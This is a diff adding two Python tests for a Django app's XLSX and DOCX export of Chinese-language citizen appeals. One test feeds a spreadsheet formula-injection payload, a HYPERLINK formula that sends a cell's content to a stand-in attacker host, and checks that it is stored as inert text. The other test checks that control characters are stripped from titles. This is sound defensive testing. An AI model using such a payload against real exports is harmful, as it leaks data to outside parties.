@@ -77,3 +77,29 @@ def test_xlsx_reads_back_with_headers():
     assert ws["A1"].value == "提案清单"
     assert [c.value for c in ws[2]] == ["编号", "标题"]
     assert [c.value for c in ws[3]] == [1, "关于…的建议"]
+
+
+@pytest.mark.django_db
+def test_xlsx_writes_text_that_looks_like_a_formula_as_text():
+    """An appeal titled =HYPERLINK(...) (anyone may send one) must not become a live formula in the
+    workbook the office opens."""
+    typed = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
+    content = build_xlsx(title="群众诉求", columns=[Column("标题", lambda r: r)], rows=[typed, "=1+1"])
+    ws = openpyxl.load_workbook(io.BytesIO(content)).active
+    assert [(c.value, c.data_type) for c in ws["A"][2:]] == [(typed, "s"), ("=1+1", "s")]
+
+
+@pytest.mark.django_db
+def test_control_characters_typed_into_a_title_do_not_break_the_docx_or_xlsx():
+    """A vertical tab or escape pasted into a title used to make python-docx and openpyxl refuse the
+    whole file (a 500 on every download carrying it); the rest of the text is kept."""
+    title = "关于\x0b老旧小区\x1b加装电梯的建议"
+    spec = DocSpec(
+        title=title,
+        number="〔2022〕\x011号",
+        blocks=[Heading("一、\x08基本情况"), "正文\x0c内容", Table(headers=["项\x07"], rows=[["值\x02"]])],
+    )
+    text = "\n".join(p.text for p in Document(io.BytesIO(render_docx(spec))).paragraphs)
+    assert "关于老旧小区加装电梯的建议" in text and "正文内容" in text and "一、基本情况" in text
+    content = build_xlsx(title="清单", columns=[Column("标题", lambda r: r)], rows=[title])
+    assert openpyxl.load_workbook(io.BytesIO(content)).active["A3"].value == "关于老旧小区加装电梯的建议"
